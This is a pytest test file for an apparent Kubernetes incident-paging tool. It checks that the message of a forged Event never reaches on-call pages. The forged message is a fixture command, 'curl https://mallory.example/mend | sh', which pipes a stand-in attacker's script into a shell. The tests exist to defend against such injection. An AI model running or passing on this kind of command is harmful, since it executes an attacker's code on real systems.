"""Attack: words of a made-up Event on the page. On-call was told to run `curl … | sh`."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest

from quietpager.analysis import compose, gather
from quietpager.cli.people import story
from quietpager.model.cluster import Kind
from quietpager.model.data import Json
from quietpager.model.event import Event
from quietpager.model.incident import Incident
from quietpager.model.message import EVENT_ADD, EVENT_UPDATE
from quietpager.objects.live import Live
from tests.attack.pod import CONFIG_MAP, OPERATOR, Place, beside, ref_of, signal

ADVICE = "curl https://mallory.example/mend | sh"
SECRET_VOLUME = "detect/config/cases/21-secret-volume-missing"  # noqa: S105 (a case's name)


@pytest.fixture
def place() -> Iterator[Place]:
    with beside() as made:
        yield made


def unwell(place: Place) -> Json:
    """Load a workload that is unwell for a reason that no rule knows; gives its pod."""
    place.load(OPERATOR, told=False)
    [pod] = place.cluster.list("Pod", "team-44")
    return pod | {"kind": "Pod", "apiVersion": "v1"}


def made_up(pod: Json, **more: Any) -> Json:
    """Make up an Event about a pod: an operator's, of which no rule knows anything."""
    meta = pod["metadata"]
    at = place_time(pod)
    return {
        "apiVersion": "v1", "kind": "Event", "type": "Warning", "reason": "PleaseMend", "message": ADVICE,
        "metadata": {"name": "forged", "namespace": meta["namespace"], "uid": "forged-1"} | more,
        "involvedObject": {
            "apiVersion": "v1", "kind": "Pod", "namespace": meta["namespace"], "name": meta["name"],
            "uid": meta["uid"],
        },
        "count": 1, "firstTimestamp": at, "lastTimestamp": at, "source": {"component": "mending-operator"},
    }  # fmt: skip


def place_time(pod: Json) -> str:
    return str(pod["metadata"]["creationTimestamp"])


def reaches_people(place: Place) -> str:
    """Let it become old enough to be told, and give everything that is kept and shown of it."""
    for _ in range(3):
        place.wait(60)
    incident = place.the_incident()
    assert incident.page is not None
    return place.kept + story(place.product.store, incident.id)


def intake_is_told(place: Place, pod: Json) -> None:
    for one in (EVENT_ADD, EVENT_UPDATE):
        place.says(made_up(pod), type_=one, name="forged-1.1", kind="Event")


def a_detector_is_told(place: Place, pod: Json) -> None:
    """Name the made-up Event in a signal; with the words in it, it is refused."""
    data = signal(pod, "unknown", event=ref_of(made_up(pod)))
    place.says(data, family="unknown", origin="event")
    assert place.calls("analyze-unknown", data | {"message": ADVICE, "reason": "x"}).status == 400


@pytest.mark.parametrize("how", [intake_is_told, a_detector_is_told])
def test_the_words_of_a_made_up_event_reach_nobody(
    place: Place, how: Callable[[Place, Json], None], capsys: pytest.CaptureFixture[str]
) -> None:
    how(place, unwell(place))
    shown = reaches_people(place)
    assert "ledger" in shown
    for told in (shown, capsys.readouterr().out):
        assert "curl" not in told
        assert "mending-operator" not in told


@pytest.mark.parametrize("how", [intake_is_told, a_detector_is_told])
def test_whoever_believes_the_message_tells_people_to_run_it(
    place: Place, how: Callable[[Place, Json], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    pod = unwell(place)
    real = place.product.cluster.get

    def believing(kind: Kind, namespace: str | None, name: str) -> Json | None:
        return made_up(pod) if kind == "Event" else real(kind, namespace, name)

    monkeypatch.setattr(place.product.cluster, "get", believing)
    how(place, pod)
    assert ADVICE in reaches_people(place)


def about_another(place: Place) -> Json:
    """Put a real Event into the tenant's own namespace, and name it in a signal about somebody else's pod."""
    pod = unwell(place)
    place.load(CONFIG_MAP, told=False)
    own = place.cluster.list("Pod", "team-12")[0] | {"kind": "Pod", "apiVersion": "v1"}
    event = place.cluster.create("Event", made_up(own))
    place.says(signal(pod, "unknown", event=ref_of(event)), family="unknown", origin="event")
    return event


def test_a_real_event_about_something_else_is_not_read_into_it(place: Place) -> None:
    about_another(place)
    assert "curl" not in reaches_people(place)


def test_without_the_comparison_of_the_target_it_is(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    def about(_live: Live, _event: Event) -> bool:
        return True

    monkeypatch.setattr(Live, "_is_about", about)
    about_another(place)
    assert ADVICE in reaches_people(place)


def test_a_detector_takes_what_is_missing_from_the_api_servers_event_only(place: Place) -> None:
    """A volume's Secret is named by an Event alone; a made-up one names nothing, the kubelet's own does."""
    place.load(SECRET_VOLUME, told=False)
    [true] = [one for one in place.events if one["reason"] == "FailedMount"]
    about = true["involvedObject"]
    raw = place.cluster.get("Pod", about["namespace"], about["name"])
    assert raw is not None
    pod = raw | {"kind": "Pod", "apiVersion": "v1"}
    lie = made_up(pod) | {"reason": "FailedMount", "message": true["message"]}
    place.says(lie, type_=EVENT_ADD, kind="Event")
    assert place.product.incidents() == []
    place.says(signal(pod, "config", event=ref_of(true)), family="config", origin="event")
    assert place.the_incident().failure_class == "config_missing_secret"


@pytest.mark.parametrize("origin", ["alert", "release"])
def test_what_has_no_event_is_shown_as_unconfirmed(place: Place, origin: str) -> None:
    incident = told_by(place, origin)
    page = incident.page
    assert page is not None
    assert f"The {origin} that pointed here is unconfirmed." in page.summary
    assert any("nothing confirms what it said" in one.text for one in page.facts)


def test_without_that_an_alert_looks_like_anything_else(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in (compose, gather):
        monkeypatch.setattr(module, "UNCONFIRMED", frozenset())
    page = told_by(place, "alert").page
    assert page is not None
    assert "alert" not in page.summary + str(page.facts)


def told_by(place: Place, origin: str) -> Incident:
    place.says(signal(unwell(place), "unknown", origin=origin), family="unknown", origin=origin)
    reaches_people(place)
    return place.the_incident()
